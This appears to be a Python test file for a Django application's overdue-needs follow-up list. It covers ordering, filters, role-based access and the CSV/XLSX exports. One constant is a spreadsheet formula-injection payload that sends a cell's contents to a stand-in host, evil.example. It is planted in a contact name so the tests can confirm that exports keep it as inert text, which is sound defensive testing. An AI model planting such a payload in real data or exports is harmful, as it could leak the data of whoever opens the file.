"""The follow-up list of overdue needs: which needs are on it (open — not resolved or cancelled —
and needed by a day before today), its agreement with the dashboard's "overdue" figure, who
sees what, and its downloads.

The cast association's needs (cast.member in Tianhe, 39; lechang in Lechang, 18):

    need                              needed by      status          on the list
    masks of cast.member              3 days ago     open            yes (2nd)
    workers of lechang                5 days ago     in progress     yes (1st)
    transport difficulty of lechang   yesterday      escalated       yes (3rd; officials too)
    masks                             today          open            no: not past yet
    a difficulty                      none           open            no: no date
    masks                             10 days ago    resolved        no
    masks                             10 days ago    cancelled       no
    masks                             in 5 days      open            no
and the other association's member's overdue need, which only its own staff see.
"""

import csv
import io
from urllib.parse import unquote

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from supplies import follow_up
from supplies.models import Need
from supplies.templatetags.needs import need_figures
from tests.factories import EnterpriseFactory, MembershipFactory
from tests.supplies.conftest import days_from_today, need_in

S = Need.Status
pytestmark = pytest.mark.django_db

OVERDUE = reverse("follow-up-overdue-needs")
CSV = reverse("follow-up-overdue-needs-csv")
XLSX = reverse("follow-up-overdue-needs-xlsx")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


class Needs:
    def __init__(self, cast):
        self.lechang = EnterpriseFactory(
            name="乐昌纺织", region_id="440281", industry_id="18", contact_name=HYPERLINK
        )
        MembershipFactory(enterprise=self.lechang, association=cast.association)
        self.masks = need_in(cast, S.OPEN, needed_by=days_from_today(-3))
        self.workers = need_in(
            cast,
            S.IN_PROGRESS,
            kind=Need.Kind.LABOUR,
            enterprise=self.lechang,
            needed_by=days_from_today(-5),
        )
        self.escalated = need_in(
            cast,
            S.ESCALATED,
            kind=Need.Kind.DIFFICULTY,
            enterprise=self.lechang,
            needed_by=days_from_today(-1),
        )
        need_in(cast, S.OPEN, needed_by=timezone.localdate())
        need_in(cast, S.OPEN, kind=Need.Kind.DIFFICULTY, needed_by=None)
        need_in(cast, S.RESOLVED, needed_by=days_from_today(-10))
        need_in(cast, S.CANCELLED, needed_by=days_from_today(-10))
        need_in(cast, S.OPEN, needed_by=days_from_today(5))
        self.other = need_in(
            cast,
            S.OPEN,
            enterprise=cast.other_member,
            association=cast.other_association,
            needed_by=days_from_today(-2),
        )


@pytest.fixture
def needs(cast) -> Needs:
    return Needs(cast)


@pytest.fixture
def web(client):
    """A browser whose person reads English."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def as_user(client, user):
    client.force_login(user)
    return client


def listed(response) -> list[int]:
    return [need.pk for need in response.context["page"]]


def test_the_list_holds_open_needs_past_their_day_needed_longest_ago_first(cast, needs, web):
    response = as_user(web, cast.staff).get(OVERDUE)

    assert response.status_code == 200
    assert listed(response) == [needs.workers.pk, needs.masks.pk, needs.escalated.pk]
    first = response.context["page"][0]
    assert first.days_overdue == 5
    html = response.content.decode()
    assert reverse("need-detail", args=[needs.workers.pk]) in html


@pytest.mark.parametrize("role", ["staff", "manager", "other_staff", "official", "admin"])
def test_its_length_is_the_overdue_figure_of_the_dashboard(cast, needs, web, role):
    user = getattr(cast, role)
    response = as_user(web, user).get(OVERDUE)
    assert response.context["page"].paginator.count == need_figures(user)["overdue"]


def test_filters_narrow_by_region_industry_kind_and_association(cast, needs, web):
    staff = as_user(web, cast.staff)
    assert listed(staff.get(OVERDUE, {"region": "440200"})) == [
        needs.workers.pk,
        needs.escalated.pk,
    ]
    assert listed(staff.get(OVERDUE, {"region": "乐昌市", "kind": "labour"})) == [needs.workers.pk]
    assert listed(staff.get(OVERDUE, {"industry": "39"})) == [needs.masks.pk]
    assert len(listed(staff.get(OVERDUE, {"industry": "C"}))) == 3
    assert listed(staff.get(OVERDUE, {"industry": "H"})) == []
    assert len(listed(staff.get(OVERDUE, {"association": cast.association.pk}))) == 3


def test_staff_never_see_another_associations_needs(cast, needs, web):
    staff = as_user(web, cast.staff)
    assert needs.other.pk not in listed(staff.get(OVERDUE))
    for url in (OVERDUE, CSV, XLSX):
        assert staff.get(url, {"association": cast.other_association.pk}).status_code == 404
    other = as_user(web, cast.other_staff)
    assert listed(other.get(OVERDUE)) == [needs.other.pk]


def test_an_official_sees_the_escalated_needs_of_the_jurisdiction_without_contacts(
    cast, needs, web
):
    response = as_user(web, cast.official).get(OVERDUE)

    assert listed(response) == [needs.escalated.pk]
    html = response.content.decode()
    assert "Contact phone" not in html and "138 0013 8000" not in html
    assert "Only the needs put before government inside" in html


def test_staff_see_the_contact_and_the_member_page(cast, needs, web):
    html = as_user(web, cast.staff).get(OVERDUE).content.decode()
    assert "Contact phone" in html and "138 0013 8000" in html
    membership = needs.lechang.memberships.get()
    assert reverse("membership-detail", args=[membership.pk]) in html


def test_enterprise_users_may_not_open_the_list_or_its_downloads(cast, needs, web):
    user = as_user(web, cast.enterprise_user)
    for url in (OVERDUE, CSV, XLSX):
        assert user.get(url).status_code == 403


def read_xlsx(response) -> list[list]:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def test_csv_starts_with_a_bom_and_a_chinese_header_and_keeps_formulas_as_text(cast, needs, client):
    response = as_user(client, cast.staff).get(CSV)
    text = b"".join(response.streaming_content).decode("utf-8")

    assert text.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert table[0][:2] == ["需求", "类型"] and table[0][-1] == "联系电话"
    assert [row[0].split()[0] for row in table[1:]] == [
        f"#{needs.workers.pk}",
        f"#{needs.masks.pk}",
        f"#{needs.escalated.pk}",
    ]
    assert table[1][-2] == "'" + HYPERLINK


def test_xlsx_rows_equal_the_list(cast, needs, web):
    staff = as_user(web, cast.staff)
    table = read_xlsx(staff.get(XLSX, {"region": "440200"}))

    assert table[0][0] == "Need" and table[0][-1] == "Contact phone"
    assert [row[0].split()[0] for row in table[1:]] == [
        f"#{needs.workers.pk}",
        f"#{needs.escalated.pk}",
    ]
    header = table[0]
    assert table[1][header.index("Days overdue")] == 5
    assert table[1][header.index("Enterprise")] == "乐昌纺织"
    assert table[1][header.index("Contact person")] == HYPERLINK  # text, never a formula


@pytest.mark.parametrize(
    ("role", "status", "rows", "sees_phone"),
    [
        ("staff", 200, 3, True),
        ("manager", 200, 3, True),
        ("partner", 200, 3, True),
        ("admin", 200, 4, True),
        ("official", 200, 1, False),
        ("other_official", 200, 0, False),
        ("other_staff", 200, 1, True),
        ("enterprise_user", 403, None, None),
        ("outsider", 403, None, None),
    ],
)
def test_each_role_downloads_what_it_may_see(cast, needs, web, role, status, rows, sees_phone):
    response = as_user(web, getattr(cast, role)).get(XLSX)

    assert response.status_code == status
    if status == 200:
        table = read_xlsx(response)
        assert len(table) - 1 == rows
        assert ("Contact phone" in table[0]) is sees_phone


def test_downloads_are_named_after_the_list_the_region_and_the_day(cast, needs, client):
    response = as_user(client, cast.staff).get(CSV, {"region": "440281"})
    today = timezone.localdate().isoformat()
    disposition = response["Content-Disposition"]

    assert f'filename="overdue-needs-440281-{today}.csv"' in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == f"超期需求-乐昌市-{today}.csv"


def test_a_long_list_says_the_downloads_are_capped(cast, needs, web, monkeypatch):
    monkeypatch.setattr(follow_up, "EXPORT_LIMIT", 2)
    staff = as_user(web, cast.staff)

    assert 'data-testid="export-capped"' in staff.get(OVERDUE).content.decode()
    assert len(read_xlsx(staff.get(XLSX))) - 1 == 2
